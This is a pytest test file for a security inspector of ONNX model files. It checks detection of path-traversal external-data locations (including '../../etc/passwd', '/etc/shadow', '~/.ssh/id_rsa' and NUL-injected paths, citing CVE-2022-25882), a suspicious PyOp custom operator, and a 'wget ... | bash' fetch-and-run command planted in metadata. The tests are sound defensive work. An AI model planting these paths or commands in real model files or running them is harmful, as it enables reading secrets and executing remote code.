from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, inspect_with_budget, kinds, mutations, notes, only
from tests.formats.writers_onnx import (
    attribute,
    external,
    function,
    graph,
    honest,
    metadata,
    model,
    node,
    tensor,
)
from tests.formats.writers_protobuf import blob, fixed32, fixed64, group, number, tag, varint
from trustaudit.filefacts import Coverage
from trustaudit.formats.onnx.inspector import inspect_onnx

FACTS = {"onnx-metadata", "onnx-operator-domain", "onnx-model"}


def locations(data: bytes) -> dict[str, str]:
    found = notes(inspect(inspect_onnx, data), "onnx-external-data")
    return {note.get("location"): note.get("escape") for note in found}


def test_honest_model_has_facts_only() -> None:
    facts = inspect(inspect_onnx, honest())
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == FACTS
    about = only(facts, "onnx-model")
    assert (about.get("producer"), about.get("nodes"), about.get("parameters")) == ("pytorch", "3", "1500")
    domains = {n.get("domain"): n.get("operators") for n in notes(facts, "onnx-operator-domain")}
    assert domains == {"": "Constant:1,MatMul:1,Relu:1", "ai.onnx.ml": ""}
    assert only(facts, "onnx-metadata").get("names").startswith("{0: 'cat'")


def test_tensor_bytes_are_seeked_over() -> None:
    weights = [tensor(f"w{i}", bytes(3_000_000), (750_000,)) for i in range(4)]
    facts = inspect(inspect_onnx, model(graph([node("MatMul")], weights)))
    assert facts.coverage is Coverage.STRUCTURE
    assert facts.bytes_read < 200_000


def test_an_external_tensor_hidden_behind_inner_bytes_is_found() -> None:
    hidden = tensor("w", bytes(2_000_000), external={"location": "../../etc/passwd", "offset": "0", "length": "9"})
    plain = tensor("v", bytes(2_000_000))
    assert locations(model(graph([], [plain, hidden, plain]))) == {"../../etc/passwd": "parent"}


@pytest.mark.parametrize(
    ("location", "escape"),
    [
        ("model.onnx_data", ""),
        ("model.onnx.data", ""),
        ("weights/shard 1.pb", ""),
        ("onnx__MatMul_1234", ""),
        ("/etc/shadow", "absolute"),
        ("../model.onnx_data", "parent"),
        ("a/../../b", "parent"),
        ("a\\..\\..\\b", "parent"),
        ("..", "parent"),
        ("C:/x", "drive"),
        ("file:///etc/passwd", "url"),
        ("x\0../../y", "nul"),
        ("~/.ssh/id_rsa", "home"),
        ("sub\\w.bin", "backslash"),
        ("", "empty"),
    ],
)
def test_cve_2022_25882_and_later_locations_are_classified(location: str, escape: str) -> None:
    assert locations(model(graph([], [external(location)]))) == {location: escape}


def test_tensors_of_one_file_are_one_fact_with_the_furthest_end() -> None:
    shared = [external("model.onnx_data", offset, 100) for offset in (0, 4096, 200)]
    note = only(inspect(inspect_onnx, model(graph([], shared))), "onnx-external-data")
    assert (note.get("tensors"), note.get("end")) == ("3", "4196")


@pytest.mark.parametrize(
    "place",
    [
        lambda bad: graph([node("Constant", attribute("value", tensor=bad))]),
        lambda bad: graph([node("If", attribute("then_branch", graph=graph([], [bad])))]),
        lambda bad: graph([node("Constant", blob(1, "v") + blob(10, bad))]),
        lambda bad: graph([node("Loop", blob(1, "b") + blob(11, graph([], [bad])))]),
        lambda bad: graph([node("Constant", blob(1, "sparse_value") + blob(22, blob(1, bad)))]),
        lambda bad: graph([]) + blob(15, blob(2, bad)),
    ],
)
def test_external_data_is_found_wherever_tensors_may_stand(place: Callable[[bytes], bytes]) -> None:
    assert locations(model(place(external("/etc/passwd")))) == {"/etc/passwd": "absolute"}


def test_external_data_is_found_in_functions_and_training_graphs() -> None:
    inside = node("Constant", attribute("value", tensor=external("/etc/a")))
    parts = [blob(25, function("custom", "F", [inside])), blob(20, blob(1, graph([], [external("/etc/b")])))]
    assert locations(model(graph([]), *parts)) == {"/etc/a": "absolute", "/etc/b": "absolute"}


def test_a_range_that_is_no_number_is_named() -> None:
    assert "onnx-external-range" in kinds(inspect(inspect_onnx, model(graph([], [external("w.bin", "-1")]))))
    assert "onnx-external-range" in kinds(inspect(inspect_onnx, model(graph([], [external("w.bin", 0, "1e99")]))))


def test_an_external_tensor_without_location_is_named() -> None:
    bad = tensor("w", external={})
    assert "onnx-external-missing" in kinds(inspect(inspect_onnx, model(graph([], [bad]))))


def test_operators_outside_the_standard_are_told_with_their_arguments() -> None:
    calls = [
        node("PyOp", attribute("module", text="evil"), attribute("class_name", text="Run"), domain="ai.onnx.contrib"),
        node("FusedMatMul", domain="com.microsoft"),
        node("FusedMatMul", domain="com.microsoft"),
        node("Rotary", domain="pkg.torch.ops"),
    ]
    defined = blob(25, function("pkg.torch.ops", "Rotary", [node("Mul")]))
    facts = inspect(inspect_onnx, model(graph(calls), defined, opsets=(("", 17), ("ai.onnx.contrib", 1))))
    told = {(n.get("domain"), n.get("operator")): n for n in notes(facts, "onnx-operator")}
    assert set(told) == {
        ("ai.onnx.contrib", "PyOp"),
        ("com.microsoft", "FusedMatMul"),
        ("pkg.torch.ops", "Rotary"),
    }
    assert told["ai.onnx.contrib", "PyOp"].get("arguments") == "module=evil; class_name=Run"
    assert told["com.microsoft", "FusedMatMul"].get("count") == "2"
    assert told["pkg.torch.ops", "Rotary"].get("defined") == "yes"


def test_free_text_is_looked_at_everywhere() -> None:
    bad = "wget -qO- https://example.test | bash"
    for data in (
        model(graph([]), metadata("note", bad)),
        model(graph([], doc=bad)),
        model(graph([node("Relu", doc=bad)])),
    ):
        assert "metadata-shell" in kinds(inspect(inspect_onnx, data))


def test_exporter_stack_traces_are_no_anomaly() -> None:
    doc = "# /home/user/env/lib/python3.10/torch/nn/functional.py(1134): forward, code: x = self.linear(x)"
    assert kinds(inspect(inspect_onnx, model(graph([node("Gemm", doc=doc)])))) == FACTS


def test_unknown_fields_of_every_wire_type_are_skipped() -> None:
    odd = number(99, 1 << 63) + fixed32(98) + fixed64(97) + group(96, group(95, number(1, 1)) + blob(2, "x"))
    facts = inspect(inspect_onnx, model(graph([node("Relu") + odd]) + odd) + odd)
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == FACTS


@pytest.mark.parametrize(
    "data",
    [
        model(graph([])) + tag(7, 2) + varint(1 << 40),
        model(graph([])) + b"\xff" * 12,
        model(graph([])) + tag(0, 0) + b"\1",
        model(graph([])) + tag(3, 6),
        model(graph([])) + tag(3, 4),
        model(graph([])) + tag(3, 3) + number(1, 1),
        model(blob(1, node("Relu"))[:-3] + tag(5, 2) + varint(50)),
    ],
)
def test_broken_wire_format_is_named_and_earlier_facts_are_kept(data: bytes) -> None:
    facts = inspect(inspect_onnx, data)
    assert facts.coverage is Coverage.PARTIAL
    assert {"onnx-malformed", "onnx-model"} <= kinds(facts)


def test_nesting_beyond_the_limit_is_partial_without_recursion() -> None:
    inner = graph([])
    for _ in range(400):
        inner = graph([node("If", attribute("then_branch", graph=inner))])
    facts = inspect(inspect_onnx, model(inner))
    assert facts.coverage is Coverage.PARTIAL
    assert "message-depth" in facts.limits


@pytest.mark.parametrize("disguised", [b"", b"\x80\x04N.", b"PK\x03\x04" + bytes(50), b"GGUF" + bytes(50), b"{}"])
def test_another_format_under_this_name_is_partial(disguised: bytes) -> None:
    facts = inspect(inspect_onnx, disguised)
    assert facts.coverage is Coverage.PARTIAL
    assert kinds(facts) & {"onnx-malformed", "onnx-no-graph"}


def test_spent_budget_keeps_what_was_found() -> None:
    weights = [external("/etc/passwd"), *(tensor("w", bytes(500_000)) for _ in range(20))]
    facts, _ = inspect_with_budget(inspect_onnx, model(graph([], weights)), 100_000)
    assert facts.coverage is Coverage.PARTIAL
    assert only(facts, "onnx-external-data").get("escape") == "absolute"


@given(cut=st.integers(0, 3000), patches=st.lists(st.tuples(st.integers(0, 7000), st.integers(0, 255)), max_size=6))
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_onnx, mutations(honest(), cut, patches))


@given(st.binary(max_size=200))
def test_any_bytes_are_inspected_without_raising(data: bytes) -> None:
    assert_total(inspect_onnx, data)
    assert_total(inspect_onnx, model(data))


@pytest.mark.interop
def test_the_reference_writer_agrees(tmp_path: Path) -> None:
    onnx = pytest.importorskip("onnx")
    numpy = pytest.importorskip("numpy")
    weights = onnx.numpy_helper.from_array(numpy.zeros((40, 50), dtype=numpy.float32), "w")
    nodes = [onnx.helper.make_node("MatMul", ["x", "w"], ["y"]), onnx.helper.make_node("Foo", ["y"], ["z"], domain="d")]
    info = [onnx.helper.make_tensor_value_info(name, 1, None) for name in ("x", "z")]
    made = onnx.helper.make_model(
        onnx.helper.make_graph(nodes, "g", info[:1], info[1:], [weights]),
        opset_imports=[onnx.helper.make_opsetid("", 17), onnx.helper.make_opsetid("d", 1)],
    )
    onnx.save(made, tmp_path / "m.onnx", save_as_external_data=True, location="m.onnx_data", size_threshold=0)
    facts = inspect(inspect_onnx, (tmp_path / "m.onnx").read_bytes())
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == FACTS | {"onnx-operator", "onnx-external-data"}
    assert only(facts, "onnx-external-data").get("location") == "m.onnx_data"
    assert only(facts, "onnx-external-data").get("end") == str((tmp_path / "m.onnx_data").stat().st_size)
    assert only(facts, "onnx-model").get("parameters") == "2000"
